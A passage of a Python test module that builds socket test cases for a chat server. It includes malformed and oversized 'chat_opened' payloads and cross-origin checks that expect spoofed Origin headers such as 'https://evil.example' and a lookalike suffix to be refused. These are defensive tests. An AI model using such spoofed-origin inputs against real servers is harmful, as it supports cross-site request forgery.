    ]
    chat_opened = {
        "string": "x",
        "number": 42,
        "list": ["x"],
        "object": {"a": [1], "message": "/restart"},
        "huge": {f"k{i}": "v" * 50 for i in range(1000)},
    }
    cases += [SocketCase(f"chat-opened-{name}", event="chat_opened", data=data) for name, data in chat_opened.items()]
    cases += [
        SocketCase("chat-opened-null", event="chat_opened", data=(None,)),
        SocketCase("chat-opened-no-data", event="chat_opened", data=NO_DATA),
        SocketCase("chat-opened-before-session", event="chat_opened", data={}, session_first=False),
        SocketCase("chat-opened-two-arguments", event="chat_opened", data=({}, {}), expect=REPLY),
    ]
    return cases


def _origin_cases() -> list[SocketCase]:
    return [
        SocketCase("origin-foreign", headers={"Origin": "https://evil.example"}, expect=ORIGIN_REFUSED,
                   data={"message": "hallo"}),
        SocketCase("origin-null", headers={"Origin": "null"}, expect=ORIGIN_REFUSED, data={"message": "hallo"}),
        SocketCase("origin-lookalike-suffix", headers={"Origin": SAME_ORIGIN + ".evil.example"},
                   expect=ORIGIN_REFUSED, data={"message": "hallo"}),
        SocketCase("origin-other-scheme", headers={"Origin": SAME_HOST_HTTPS},
                   expect=ORIGIN_REFUSED, data={"message": "hallo"}),
        SocketCase("origin-same", headers={"Origin": SAME_ORIGIN}, data={"message": "hallo"}),
        SocketCase("origin-none", data={"message": "hallo"}),
    ]


def _socket_text_cases() -> list[SocketCase]:
    return [
        SocketCase(f"text-{text_id}", data={"message": TEXTS[text_id], "metadata": {}}, **_text_checks(text_id))
        for text_id in SOCKET_TEXT_IDS
    ]


SOCKET_CASES: list[SocketCase] = _frame_cases() + _session_cases() + _origin_cases() + _socket_text_cases()


def rest_fingerprint(case: RestCase) -> tuple:
    """What makes a REST input distinct, whatever its sender id."""
    body = re.sub(rb"hostile-\d+", SENDER, case.body or b"")
    return case.method, case.content_type, case.chunked, body


def socket_fingerprint(case: SocketCase) -> str:
    return repr((case.event, case.data, case.raw, case.session_first, sorted(case.headers.items())))
